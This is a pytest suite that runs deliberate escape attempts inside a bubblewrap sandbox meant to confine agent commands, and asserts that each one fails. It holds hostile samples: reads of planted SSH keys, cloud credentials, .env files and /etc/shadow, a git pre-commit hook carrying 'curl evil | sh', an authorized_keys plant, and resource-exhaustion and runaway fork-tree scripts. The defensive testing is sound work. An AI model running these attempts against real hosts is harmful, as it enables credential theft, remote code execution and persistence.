"""The escape battery: each test runs a deliberate escape attempt as the sandboxed program
on the real bubblewrap backend, and the attempt must fail with the host left untouched."""

from __future__ import annotations

import os
import shutil
import socket
import subprocess
import sys
import tempfile
import textwrap
import time
import uuid
from pathlib import Path

import pytest

from sandbox import Policy, Result, create_sandbox

pytestmark = pytest.mark.skipif(shutil.which("bwrap") is None, reason="needs bubblewrap")

SECRET_KEY = "sk-ant-planted-0123456789"
SECRET_TOKEN = "planted-token-9876543210"
SSH_KEY = "-----BEGIN OPENSSH PRIVATE KEY----- planted"


@pytest.fixture
def area():
    """A folder on the real disk (not /tmp, which the sandbox replaces) for each test."""
    root = Path(tempfile.mkdtemp(prefix="agent-escape-", dir="/var/tmp")).resolve()
    yield root
    shutil.rmtree(root, ignore_errors=True)


@pytest.fixture
def home(tmp_path, monkeypatch):
    """A HOME we control, with planted secrets, and planted keys in the environment."""
    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "id_rsa").write_text(SSH_KEY)
    (home / ".aws").mkdir()
    (home / ".aws" / "credentials").write_text(SECRET_KEY)
    (home / ".env").write_text(f"TOKEN={SECRET_TOKEN}\n")
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("ANTHROPIC_API_KEY", SECRET_KEY)
    monkeypatch.setenv("SOME_SECRET_TOKEN", SECRET_TOKEN)
    return home


@pytest.fixture
def workspace(area, home):
    """A real git repository to confine commands to."""
    repo = area / "repo"
    repo.mkdir()
    subprocess.run(["git", "init", "-q", str(repo)], check=True)
    return repo


def run_python(workspace: Path, code: str, **policy) -> Result:
    """Run `code` with this interpreter inside a bwrap sandbox over `workspace`."""
    box = create_sandbox(Policy(workspace, timeout_s=30, **policy), "bwrap")
    return box.run([sys.executable, "-c", textwrap.dedent(code)])


def assert_refused(result: Result) -> None:
    assert "ESCAPED" not in result.stdout, result
    assert result.exit_code != 0, result


WRITE = """
import sys
try:
    with open(sys.argv[1] if len(sys.argv) > 1 else {path!r}, "w") as f:
        f.write("escaped")
    print("ESCAPED")
except OSError as error:
    print(error)
    sys.exit(1)
"""


def test_write_outside_by_absolute_path_fails(workspace, area):
    target = area / "outside.txt"
    result = run_python(workspace, WRITE.format(path=str(target)))
    assert_refused(result)
    assert "Read-only file system" in result.stdout
    assert not target.exists()


def test_write_outside_through_dotdot_fails(workspace, area):
    result = run_python(workspace, WRITE.format(path="../dotdot.txt"))
    assert_refused(result)
    assert not (area / "dotdot.txt").exists()


def test_write_through_planted_symlink_fails(workspace, area):
    outside = area / "outside"
    outside.mkdir()
    (workspace / "link").symlink_to(outside)
    result = run_python(workspace, WRITE.format(path="link/planted.txt"))
    assert_refused(result)
    assert list(outside.iterdir()) == []


def test_workspace_itself_is_writable(workspace):
    result = run_python(workspace, WRITE.format(path="inside.txt").replace("ESCAPED", "WROTE"))
    assert result.exit_code == 0, result
    assert (workspace / "inside.txt").read_text() == "escaped"


READ = """
import os, sys
for path in sys.argv[1:]:
    try:
        print(open(path).read())
    except OSError as error:
        print("refused", type(error).__name__)
print(dict(os.environ))
"""


def test_planted_ssh_key_and_api_keys_are_out_of_reach(workspace, home):
    box = create_sandbox(Policy(workspace, timeout_s=30), "bwrap")
    paths = [home / ".ssh" / "id_rsa", home / ".aws" / "credentials", home / ".env",
             Path("/proc/1/environ")]
    result = box.run([sys.executable, "-c", READ, *map(str, paths)])
    assert result.exit_code == 0, result
    assert result.stdout.count("refused") >= 3
    for secret in (SSH_KEY, SECRET_KEY, SECRET_TOKEN, "ANTHROPIC_API_KEY", "SOME_SECRET_TOKEN"):
        assert secret not in result.stdout + result.stderr


@pytest.mark.skipif(not os.access("/etc/shadow", os.R_OK), reason="needs a readable shadow")
def test_root_only_system_secrets_are_hidden(workspace):
    box = create_sandbox(Policy(workspace, timeout_s=30), "bwrap")
    result = box.run(["sh", "-c", "cat /etc/shadow || cat /etc/gshadow || echo refused"])
    assert result.stdout == "refused\n", result  # a root-owned 0640 file: root could read it


def test_secrets_stay_hidden_when_the_workspace_lives_in_home(home):
    project = home / "src" / "project"
    project.mkdir(parents=True)
    box = create_sandbox(Policy(project, timeout_s=30), "bwrap")
    result = box.run([sys.executable, "-c", READ, "../../.ssh/id_rsa", "../../.env"])
    assert result.stdout.count("refused") == 2, result
    assert SSH_KEY not in result.stdout and SECRET_TOKEN not in result.stdout


def test_env_files_in_parent_folders_are_hidden(workspace, area):
    (area / ".env").write_text(f"KEY={SECRET_KEY}\n")
    (workspace / ".env").write_text("MINE=1\n")
    box = create_sandbox(Policy(workspace, timeout_s=30), "bwrap")
    result = box.run([sys.executable, "-c", READ, str(area / ".env"), ".env"])
    assert SECRET_KEY not in result.stdout
    assert "MINE=1" in result.stdout  # the project's own .env is the project's business


CONNECT = """
import socket, sys
try:
    socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=3).close()
    print("ESCAPED")
except OSError as error:
    print(error)
    sys.exit(1)
"""


def test_loopback_listener_on_the_host_is_unreachable(workspace):
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = str(listener.getsockname()[1])
        box = create_sandbox(Policy(workspace, timeout_s=30), "bwrap")
        result = box.run([sys.executable, "-c", CONNECT, port])
        assert_refused(result)
        listener.settimeout(0.2)
        with pytest.raises(TimeoutError):
            listener.accept()


def test_network_true_reaches_the_loopback_listener(workspace):
    with socket.create_server(("127.0.0.1", 0)) as listener:
        port = str(listener.getsockname()[1])
        box = create_sandbox(Policy(workspace, timeout_s=30), "bwrap")
        result = box.run([sys.executable, "-c", CONNECT, port], network=True)
        assert "ESCAPED" in result.stdout, result
        listener.settimeout(2)
        listener.accept()[0].close()


def test_dns_names_do_not_resolve(workspace):
    result = run_python(workspace, """
        import socket, sys
        try:
            print(socket.getaddrinfo("pypi.org", 443))
            print("ESCAPED")
        except OSError as error:
            print(error)
            sys.exit(1)
    """)
    assert_refused(result)


@pytest.mark.skipif(not os.access("/run", os.W_OK), reason="needs to plant a socket in /run")
def test_unix_socket_under_run_is_hidden(workspace):
    path = Path("/run") / f"agent-escape-{uuid.uuid4().hex[:8]}.sock"
    server = socket.socket(socket.AF_UNIX)
    try:
        server.bind(str(path))
        server.listen()
        result = run_python(workspace, f"""
            import socket, sys
            try:
                socket.socket(socket.AF_UNIX).connect({str(path)!r})
                print("ESCAPED")
            except OSError as error:
                print(error)
                sys.exit(1)
        """)
        assert_refused(result)
    finally:
        server.close()
        path.unlink(missing_ok=True)


def test_abstract_unix_socket_on_the_host_is_unreachable(workspace):
    name = f"\0agent-escape-{uuid.uuid4().hex[:8]}"
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(name)
        server.listen()
        result = run_python(workspace, f"""
            import socket, sys
            try:
                socket.socket(socket.AF_UNIX).connect({name!r})
                print("ESCAPED")
            except OSError as error:
                print(error)
                sys.exit(1)
        """)
        assert_refused(result)


def test_cannot_see_or_signal_the_test_process(workspace):
    result = run_python(workspace, f"""
        import os, sys
        pid = {os.getpid()}
        try:
            os.kill(pid, 0)
            print("ESCAPED signal")
        except ProcessLookupError:
            pass
        names = [open(f"/proc/{{p}}/cmdline", "rb").read() for p in os.listdir("/proc")
                 if p.isdigit()]
        if os.path.exists(f"/proc/{{pid}}") or {Path("/proc/self/cmdline").read_bytes()!r} in names:
            print("ESCAPED proc")
        print(len(names), "processes visible")
        sys.exit(3)
    """)
    assert result.exit_code == 3, result
    assert_refused(result)
    assert int(result.stdout.split()[-3]) <= 3  # bwrap's init, the program, nothing else


HOOK = """
import os, sys
try:
    os.makedirs(os.path.dirname({path!r}), exist_ok=True)
    with open({path!r}, "w") as f:
        f.write("#!/bin/sh\\ncurl evil | sh\\n")
    print("ESCAPED")
except OSError as error:
    print(error)
    sys.exit(1)
"""


def test_git_hooks_and_config_are_read_only(workspace):
    for target in (".git/hooks/pre-commit", ".git/config"):
        before = (workspace / target).read_bytes() if (workspace / target).exists() else None
        result = run_python(workspace, HOOK.format(path=target))
        assert_refused(result)
        after = (workspace / target).read_bytes() if (workspace / target).exists() else None
        assert after == before


def test_missing_hooks_folder_cannot_be_created(workspace):
    shutil.rmtree(workspace / ".git" / "hooks")
    result = run_python(workspace, HOOK.format(path=".git/hooks/pre-commit"))
    assert_refused(result)
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()


def test_configured_hooks_path_is_read_only(workspace):
    subprocess.run(["git", "-C", str(workspace), "config", "core.hooksPath", ".githooks"],
                   check=True)
    result = run_python(workspace, HOOK.format(path=".githooks/pre-commit"))
    assert_refused(result)
    assert not (workspace / ".githooks" / "pre-commit").exists()


def test_worktree_hooks_stay_read_only_even_when_the_main_repo_is_writable(workspace, area):
    subprocess.run(["git", "-C", str(workspace), "-c", "user.name=t", "-c", "user.email=t@t",
                    "commit", "-q", "--allow-empty", "-m", "init"], check=True)
    tree = area / "tree"
    subprocess.run(["git", "-C", str(workspace), "worktree", "add", "-q", str(tree)], check=True)
    hook = workspace / ".git" / "hooks" / "pre-commit"
    result = run_python(tree, HOOK.format(path=str(hook)), writable=(workspace,))
    assert_refused(result)
    assert not hook.exists()
    # the rest of the writable main repository really is writable
    ok = run_python(tree, WRITE.format(path=str(workspace / "notes.txt")), writable=(workspace,))
    assert (workspace / "notes.txt").exists(), ok


def test_file_size_limit_stops_a_disk_filler(workspace):
    result = run_python(workspace, """
        import sys
        try:
            with open("big.bin", "wb") as f:
                for _ in range(10):
                    f.write(b"x" * 1024 * 1024)
            print("ESCAPED")
        except OSError as error:
            print(error)
            sys.exit(1)
    """, file_size_mb=2)
    assert_refused(result)
    assert "too large" in result.stdout
    assert (workspace / "big.bin").stat().st_size <= 2 * 1024 * 1024


def test_private_tmp_is_bounded(workspace):
    result = run_python(workspace, """
        import sys
        try:
            for i in range(10):
                with open(f"/tmp/part{i}", "wb") as f:
                    f.write(b"x" * 1024 * 1024)
            print("ESCAPED")
        except OSError as error:
            print(error)
            sys.exit(1)
    """, file_size_mb=4)
    assert_refused(result)
    assert "No space left" in result.stdout


def test_memory_limit_stops_a_large_allocation(workspace):
    result = run_python(workspace, """
        block = bytearray(1024 * 1024 * 1024)
        print("ESCAPED")
    """, memory_mb=256)
    assert_refused(result)
    assert "MemoryError" in result.stderr


def test_cpu_limit_stops_a_busy_loop(workspace):
    result = run_python(workspace, "while True: pass", cpu_s=1)
    assert result.killed_by == "SIGXCPU" and result.exit_code == -24, result
    assert not result.timed_out


MEASURE = """
import json, resource, sys
from pathlib import Path
from sandbox import Policy, create_sandbox
box = create_sandbox(Policy(Path(sys.argv[1]), timeout_s=60), "bwrap")
flood = "import sys\\nfor _ in range(100): sys.stdout.buffer.write(b'x' * 1_000_000)"
result = box.run([sys.executable, "-c", flood])
print(json.dumps({"rss_kb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss,
                  "length": len(result.stdout), "truncated": result.truncated,
                  "exit": result.exit_code, "head": result.stdout[:5],
                  "marker": "[... 99,000,000 bytes cut ...]" in result.stdout}))
"""


def test_hundred_megabytes_of_output_is_capped_in_bounded_memory(workspace):
    import json

    done = subprocess.run([sys.executable, "-c", MEASURE, str(workspace)],
                          capture_output=True, text=True, timeout=120)
    report = json.loads(done.stdout)
    assert report["exit"] == 0 and report["truncated"] and report["marker"], report
    assert report["length"] < 1_100_000 and report["head"] == "xxxxx"
    assert report["rss_kb"] < 80_000, report  # 100 MB went through; about 1 MB was kept


def marked_processes(marker: str) -> list[str]:
    """Pids of live processes whose command line carries `marker`."""
    found = []
    for entry in os.listdir("/proc"):
        try:
            cmdline = Path(f"/proc/{entry}/cmdline").read_bytes()
        except OSError:
            continue
        if marker.encode() in cmdline:
            found.append(entry)
    return found


def wait_until_gone(marker: str, seconds: float = 5) -> list[str]:
    deadline = time.monotonic() + seconds
    while marked_processes(marker) and time.monotonic() < deadline:
        time.sleep(0.05)
    return marked_processes(marker)


TREE = """
sleeper() { python3 -c 'import time; time.sleep(300)' "$MARK" ; }
sleeper &
(sleeper &) &
setsid sh -c 'python3 -c "import time; time.sleep(300)" "$0"' "$MARK" &
( ( sleeper & ) & ) &
while :; do sleep 300 & wait; done
"""


def run_watched(box, argv: list[str], timeout: float, marker: str) -> tuple[Result, int]:
    """Run `argv` in a thread while counting the marked processes it starts; returns the
    result and the most marked processes seen alive at once."""
    from concurrent.futures import ThreadPoolExecutor

    with ThreadPoolExecutor(1) as pool:
        running = pool.submit(box.run, argv, timeout=timeout, env={"MARK": marker})
        peak = 0
        while not running.done():
            peak = max(peak, len(marked_processes(marker)))
            time.sleep(0.05)
        return running.result(), peak


def test_fork_tree_that_outlives_the_timeout_is_killed_entirely(workspace):
    marker = f"agent-escape-{uuid.uuid4().hex}"
    box = create_sandbox(Policy(workspace, timeout_s=30), "bwrap")
    started = time.monotonic()
    result, peak = run_watched(box, ["sh", "-c", TREE], 3, marker)
    assert result.timed_out and result.killed_by == "timeout", result
    assert time.monotonic() - started < 8
    assert peak >= 5  # the tree really grew: sleepers, a setsid one, a double-forked one
    assert wait_until_gone(marker) == []


def test_secrets_stay_hidden_even_when_home_is_made_writable(workspace, home):
    box = create_sandbox(Policy(workspace, writable=(home,), timeout_s=30), "bwrap")
    result = box.run([sys.executable, "-c", READ, str(home / ".ssh" / "id_rsa"),
                      str(home / ".aws" / "credentials"), str(home / ".env")])
    assert SSH_KEY not in result.stdout and SECRET_KEY not in result.stdout
    assert SECRET_TOKEN not in result.stdout
    planted = box.run(["sh", "-c", f"echo x > {home}/.ssh/authorized_keys"])
    assert planted.exit_code != 0 and not (home / ".ssh" / "authorized_keys").exists()
    assert box.run(["touch", str(home / "notes.txt")]).exit_code == 0
    assert (home / "notes.txt").exists()
